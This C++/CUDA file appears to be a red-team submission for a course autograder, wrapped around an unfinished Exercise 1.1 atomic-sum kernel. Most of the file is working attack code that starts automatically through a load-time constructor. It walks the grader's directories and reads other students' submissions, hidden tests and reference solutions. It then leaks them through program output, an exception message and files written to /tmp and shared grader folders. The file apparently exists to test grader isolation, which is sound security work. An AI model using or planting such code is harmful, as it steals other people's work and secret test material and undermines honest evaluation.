// RED TEAM: Reads what the grader keeps around it: the other students' submissions and
// RED TEAM: work folders, the hidden tests, the reference solutions (found from the
// RED TEAM: grader's command line and by walking up the folders), and sends what it
// RED TEAM: found out by every channel: its output (shown in the report), the message
// RED TEAM: of an exception each call throws (shown as the test's failure), and files
// RED TEAM: in the shared build, the grader's output and /tmp. The kernel below is the
// RED TEAM: untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
#include <stdexcept>
// @REDTEAM_LIB@

namespace {
// A function's static: ready whenever the constructor below runs.
std::string& loot() {
  static std::string text;
  return text;
}

// Lines worth stealing: other students' files (each carries a line unique to
// it), the hidden tests, the reference solutions.
void cudalab_redteam_grab(const std::string& path) {
  const std::string text = redteam::read_file(path, std::size_t{1} << 20);
  std::size_t pos = 0;
  while (pos < text.size() && loot().size() < 16384) {
    auto end = text.find('\n', pos);
    if (end == std::string::npos) end = text.size();
    const std::string line = text.substr(pos, end - pos);
    if (line.find("cudalab_redteam_canary") != std::string::npos ||
        line.find("BEGIN SOLUTION") != std::string::npos || line.find("secret") != std::string::npos)
      loot() += path + ": " + line.substr(0, 200) + "\n";
    pos = end + 1;
  }
}

void cudalab_redteam_walk(const std::string& dir, int depth, int& budget) {
  if (depth > 12 || budget <= 0 || dir.rfind("/proc", 0) == 0 || dir.rfind("/sys", 0) == 0) return;
  for (const auto& name : redteam::list_dir(dir)) {
    if (--budget <= 0) return;
    const std::string p = dir + "/" + name;
    struct stat st{};
    if (lstat(p.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode)) {
      if (name != "build" && name != ".git" && name != "_deps") cudalab_redteam_walk(p, depth + 1, budget);
    } else if (S_ISREG(st.st_mode) && st.st_size < (1 << 20)) {
      for (const char* ext : {".cu", ".cuh", ".txt", ".json", ".md", ".hpp"})
        if (p.size() > std::strlen(ext) && p.compare(p.size() - std::strlen(ext), std::string::npos, ext) == 0) {
          cudalab_redteam_grab(p);
          break;
        }
    }
  }
}

void cudalab_redteam_spy() {
  static bool done = false;
  if (done) return;
  done = true;
  const auto g = redteam::grader_paths();
  std::vector<std::string> dirs{g.submissions, g.hidden, g.out.empty() ? "" : g.out + "/work",
                                g.out.empty() ? "" : g.out + "/students"};
  const std::string sol = redteam::find_up("solutions");
  dirs.push_back(sol);
  if (redteam::kRoot[0] == '/') dirs.push_back(std::string(redteam::kRoot) + "/solutions");
  int budget = 200000;
  for (const auto& d : dirs)
    if (!d.empty()) cudalab_redteam_walk(d, 0, budget);
  if (loot().empty()) loot() = "nothing found\n";
  // Out by every way there is: the output, files the grader may show or keep.
  redteam::say("loot:\n" + loot());
  const std::string name = std::string("/") + redteam::kMarker + "-loot.txt";
  redteam::write_file("/tmp" + name, loot());
  if (!g.shared.empty()) redteam::write_file(g.shared + "/course/build/default" + name, loot());
  if (!g.out.empty() && !g.student.empty()) redteam::write_file(g.out + "/students/" + g.student + name, loot());
}

__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(nullptr);
  cudalab_redteam_spy();
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  cudalab_redteam_spy();
  throw std::runtime_error("loot: " + loot().substr(0, 4000));
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
